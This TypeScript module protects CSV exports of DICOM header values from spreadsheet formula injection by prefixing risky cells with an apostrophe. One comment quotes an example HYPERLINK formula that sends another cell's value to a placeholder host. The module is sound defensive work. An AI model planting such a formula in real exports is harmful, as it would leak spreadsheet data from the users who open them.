/**
 * CSV ("formula") injection: a spreadsheet that opens a CSV treats a cell beginning with
 * `=`, `+`, `-` or `@` as a formula, so a header value planted in a DICOM file (say a
 * Manufacturer of `=HYPERLINK("https://example.com/?"&A1,"open")`) would run on the
 * researcher's machine and could send other cells away. OWASP's advice is to prefix such a
 * cell with an apostrophe, which spreadsheets show as text and do not evaluate. Tab and CR
 * lead the same list, because some spreadsheets skip them before looking for the formula sign.
 *
 * Plain numbers (`-12.5`, `+3`, `1e-3`) are left alone: a spreadsheet reads them as the same
 * number either way, and an apostrophe would turn every negative value into text.
 */
const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/;

export function needsFormulaGuard(text: string): boolean {
  return FORMULA_START.test(text) && !PLAIN_NUMBER.test(text);
}

export function guardFormula(text: string): string {
  return needsFormulaGuard(text) ? `'${text}` : text;
}

/**
 * The inverse, for reading back an export that was written with the guard on. A value that
 * itself began with an apostrophe and a formula sign cannot be told apart, and loses the
 * apostrophe: a rare loss, accepted for exports that are meant to be read by people.
 */
export function unguardFormula(text: string): string {
  return text.startsWith("'") && needsFormulaGuard(text.slice(1)) ? text.slice(1) : text;
}
